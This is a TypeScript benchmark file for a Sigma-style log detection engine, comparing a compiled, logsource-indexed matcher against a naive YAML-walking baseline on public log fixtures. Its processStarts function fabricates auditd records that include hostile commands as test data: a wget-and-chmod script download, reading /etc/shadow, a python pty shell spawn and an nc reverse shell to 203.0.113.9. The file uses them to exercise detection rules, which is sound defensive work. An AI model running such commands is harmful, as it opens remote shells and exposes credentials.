import { readFileSync } from 'node:fs';
import { BlockList, isIP } from 'node:net';
import { AssetIndex, getField, isPlainObject, loadInventory, type ShouwangEvent } from '../core/index.js';
import { decodeLine, decodeRecordLine, demoLogLines } from '../collectors/index.js';
import {
  compileRuleSet, loadDefaultMapping, loadRuleDir, parseCondition, resolveLogsource,
  type ConditionNode, type FieldMapping, type RuleDocument,
} from '../analyzers/index.js';
import { compare } from './measure.js';
import { benchRulesAgainstRsigma } from './rules-rsigma.js';
import { benchWindowsRulesAgainstRsigma } from './rules-windows.js';

const FIXTURES = 'test/fixtures';

/**
 * The single-event rule engine: events/s on one core (the matcher is synchronous JavaScript, so one
 * process is one core) for 100 rules and for every loaded rule, compiled and indexed by logsource,
 * against a naive baseline that walks each rule's parsed YAML per event.
 */
export async function benchRules(): Promise<void> {
  const events = fixtureEvents();
  const mapping = loadDefaultMapping();
  const sigma = await loadRuleDir(`${FIXTURES}/sigma/rules`);
  const ours = await loadRuleDir('rules').catch(() => ({ documents: [] as RuleDocument[] }));
  const loaded = [...sigma.documents, ...ours.documents];
  // Only what compiles (a rule pack being edited may hold errors): both variants get the same rules.
  const compiledAll = compileRuleSet(loaded, { mapping });
  const usable = compiledAll.rules.map((r) => r.document);
  // 100 rules spread over every logsource, not the first 100 of one folder.
  const step = usable.length / 100;
  const hundred = Array.from({ length: Math.min(100, usable.length) }, (_, i) => usable[Math.floor(i * step)]!);
  console.log(`\nrules: ${events.length.toLocaleString('en-US')} fixture events; ${usable.length} rules compile ` +
    `(${sigma.documents.length} SigmaHQ fixtures + ${ours.documents.length} from rules/)`);

  for (const [label, documents] of [['100 rules', hundred], [`all ${usable.length} rules`, usable]] as const) {
    const set = compileRuleSet(documents, { mapping });
    const naive = naiveMatcher(documents, mapping);
    const matchesCompiled = events.reduce((n, e) => n + set.match(e).length, 0);
    const matchesNaive = events.reduce((n, e) => n + naive(e), 0);
    console.log(`  ${label}: ${matchesCompiled} matches compiled, ${matchesNaive} naive${matchesCompiled === matchesNaive ? '' : '  ← DIFFERENT'}`);
    const naiveEvents = events.slice(0, 600);
    await compare(`single-event rules, ${label}, one core`, 'events/s', {
      'naive: walk the YAML tree per event (baseline)': async () => {
        for (const event of naiveEvents) naive(event);
        return naiveEvents.length;
      },
      'compiled, indexed by logsource': async () => {
        let sink = 0;
        for (let round = 0; round < 5; round += 1) for (const event of events) sink += set.match(event).length;
        if (sink < 0) console.log(sink);
        return events.length * 5;
      },
    });
  }
  await benchRulesAgainstRsigma();
  await benchWindowsRulesAgainstRsigma();
}

/** Syslog, auth, web access and error logs and auditd from the public fixtures, plus the demo day and process starts. */
export function fixtureEvents(): ShouwangEvent[] {
  const inventory = loadInventory('config/inventory.demo.yaml');
  const assets = new AssetIndex(inventory);
  const context = { utcOffset: '+08:00', now: new Date('2026-11-26T00:00:00Z') };
  const read = (file: string, limit = Infinity) => readFileSync(`${FIXTURES}/logs/${file}`, 'utf8').split('\n').filter(Boolean).slice(0, limit);
  const events: ShouwangEvent[] = [];
  const add = (lines: string[], format?: string) => lines.forEach((text, i) => {
    const line = { text, position: String(i) };
    const decoded = format ? decodeRecordLine(line, 'bench', assets, context, format) : decodeLine(line, 'bench', assets, context);
    if (decoded.ok) events.push(decoded.event);
  });
  add(read('loghub/Linux/Linux_2k.log'));
  add(read('loghub/OpenSSH/OpenSSH_2k.log'));
  add(read('elastic-beats-filebeat-tests/system-auth/test.log'));
  add(read('loghub/Apache/Apache_2k.log'), 'web-error-log');
  add(read('elastic-examples-apache_logs/apache_logs', 3_000), 'access-log');
  add(read('elastic-beats-filebeat-tests/nginx-access/test.log'), 'access-log');
  add(read('elastic-beats-filebeat-tests/auditd/test.log'), 'auditd');
  add(read('elastic-beats-filebeat-tests/auditd/useradd.log'), 'auditd');
  add(demoLogLines(inventory, context.now).map((l) => l.text));
  add(processStarts(500), 'auditd');
  // Shuffled with a fixed seed, so every logsource group is exercised throughout.
  let seed = 42;
  const random = () => ((seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31);
  for (let i = events.length - 1; i > 0; i -= 1) {
    const j = Math.floor(random() * (i + 1));
    [events[i], events[j]] = [events[j]!, events[i]!];
  }
  return events;
}

/** auditd EXECVE records of everyday and suspicious commands, for the process_creation rules. */
function processStarts(count: number): string[] {
  const commands = [
    ['ls', '-la', '/var/log'], ['systemctl', 'restart', 'nginx'], ['tail', '-n', '100', '/var/log/messages'],
    ['curl', '-s', 'http://10.1.2.3/health'], ['wget', '-O', '/tmp/x.sh', 'http://203.0.113.5/x.sh'], ['chmod', '+x', '/tmp/x.sh'],
    ['base64', '-d', '/tmp/payload'], ['crontab', '-l'], ['iptables', '-F'], ['cat', '/etc/shadow'], ['python3', '-c', 'import pty;pty.spawn("/bin/bash")'],
    ['tar', 'czf', '/backup/app.tgz', '/srv/app'], ['mysqldump', '--all-databases'], ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
  ];
  return Array.from({ length: count }, (_, i) => {
    const args = commands[i % commands.length]!;
    const quoted = args.map((a, n) => `a${n}="${a.replace(/"/g, '')}"`).join(' ');
    return `type=EXECVE msg=audit(${1_764_000_000 + i}.123:${1000 + i}): argc=${args.length} ${quoted}`;
  });
}

/**
 * The baseline: what an interpreter without a compile step does. Per event and rule it checks the
 * logsource, resolves field names, parses the condition, turns each value into a pattern and walks
 * the detection maps and lists as YAML gave them.
 */
function naiveMatcher(documents: readonly RuleDocument[], mapping: FieldMapping): (event: Record<string, unknown>) => number {
  return (event) => {
    let matches = 0;
    for (const doc of documents) {
      const resolved = resolveLogsource(mapping, doc.logsource);
      const ident = (name: string) => [name];
      if (!resolved.entries.every((entry) => entry.when === undefined || naiveSearch(entry.when, event, ident, mapping))) continue;
      const detection = doc.body.detection as Record<string, unknown>;
      const conditions = Array.isArray(detection.condition) ? detection.condition as string[] : [detection.condition as string];
      if (conditions.some((c) => naiveCondition(parseCondition(c), detection, event, resolved.resolveField, mapping))) matches += 1;
    }
    return matches;
  };
}

type Resolve = (name: string) => readonly string[];

function naiveCondition(node: ConditionNode, detection: Record<string, unknown>, event: Record<string, unknown>, resolve: Resolve, mapping: FieldMapping): boolean {
  const names = () => Object.keys(detection).filter((k) => k !== 'condition');
  switch (node.type) {
    case 'and': return node.items.every((n) => naiveCondition(n, detection, event, resolve, mapping));
    case 'or': return node.items.some((n) => naiveCondition(n, detection, event, resolve, mapping));
    case 'not': return !naiveCondition(node.item, detection, event, resolve, mapping);
    case 'ref': return naiveSearch(detection[node.name], event, resolve, mapping);
    case 'of': {
      const pattern = new RegExp(`^${node.pattern.replace(/\*/g, '.*')}$`);
      const chosen = names().filter((n) => (node.pattern === 'them' ? !n.startsWith('_') : pattern.test(n)));
      const hits = chosen.filter((n) => naiveSearch(detection[n], event, resolve, mapping)).length;
      return node.count === 'all' ? hits === chosen.length : hits >= node.count;
    }
  }
}

function naiveSearch(value: unknown, event: Record<string, unknown>, resolve: Resolve, mapping: FieldMapping): boolean {
  if (Array.isArray(value)) return value.some((v) => naiveSearch(v, event, resolve, mapping));
  if (!isPlainObject(value)) return mapping.keywordFields.some((f) => naiveValue(getField(event, f), value, ['contains'], mapping.timeOffsetMinutes));
  return Object.entries(value).every(([key, expected]) => {
    const [field, ...modifiers] = key.split('|');
    const paths = field ? resolve(field) : mapping.keywordFields;
    const mods = field ? modifiers : modifiers.some((m) => m === 'contains' || m === 're') ? modifiers : [...modifiers, 'contains'];
    const values = Array.isArray(expected) ? expected : [expected];
    return paths.some((path) => {
      const actual = getField(event, path);
      if (mods.includes('exists')) return (actual !== undefined) === values[0];
      const test = (v: unknown) => naiveValue(actual, v, mods, mapping.timeOffsetMinutes);
      return mods.includes('all') ? values.every(test) : values.some(test);
    });
  });
}

const TIME_PARTS: Record<string, (d: Date) => number> = {
  minute: (d) => d.getUTCMinutes(), hour: (d) => d.getUTCHours(), day: (d) => d.getUTCDate(),
  month: (d) => d.getUTCMonth() + 1, year: (d) => d.getUTCFullYear(),
};

function naiveValue(actual: unknown, expected: unknown, mods: string[], offsetMinutes: number): boolean {
  if (expected === null) return actual === undefined || actual === null;
  if (Array.isArray(actual)) return actual.some((a) => naiveValue(a, expected, mods, offsetMinutes));
  const part = mods.find((m) => m in TIME_PARTS);
  const op = mods.find((m) => ['lt', 'lte', 'gt', 'gte'].includes(m));
  if (part || op) {
    const x = part ? TIME_PARTS[part]!(new Date(Date.parse(String(actual)) + offsetMinutes * 60_000)) : Number(actual);
    const limit = Number(expected);
    return op === 'lt' ? x < limit : op === 'lte' ? x <= limit : op === 'gt' ? x > limit : op === 'gte' ? x >= limit : x === limit;
  }
  if (actual === undefined || actual === null || typeof actual === 'object') return false;
  const text = String(actual);
  if (mods.includes('re')) return new RegExp(String(expected).replace(/^\(\?([ims]+)\)/, ''), /^\(\?i/.test(String(expected)) ? 'i' : '').test(text);
  if (mods.includes('cidr')) {
    const [address, prefix] = String(expected).split('/');
    const list = new BlockList();
    const family = isIP(address!) === 6 ? 'ipv6' : 'ipv4';
    list.addSubnet(address!, Number(prefix ?? (family === 'ipv6' ? 128 : 32)), family);
    return isIP(text) !== 0 && list.check(text, isIP(text) === 6 ? 'ipv6' : 'ipv4');
  }
  const cased = mods.includes('cased');
  const regex = new RegExp(wildcardSource(String(expected), mods), cased ? 's' : 'is');
  return regex.test(text);
}

/** Sigma wildcards and escapes → regex source, with the contains/startswith/endswith anchors. */
function wildcardSource(value: string, mods: string[]): string {
  let source = '';
  for (let i = 0; i < value.length; i += 1) {
    const c = value[i]!;
    const next = value[i + 1];
    if (c === '\\' && (next === '*' || next === '?' || next === '\\')) {
      source += next.replace(/[*?\\]/, '\\$&');
      i += 1;
    } else if (c === '*') source += '.*';
    else if (c === '?') source += '.';
    else source += c.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
  }
  const start = mods.includes('contains') || mods.includes('endswith') ? '' : '^';
  const end = mods.includes('contains') || mods.includes('startswith') ? '' : '$';
  return `${start}${source}${end}`;
}
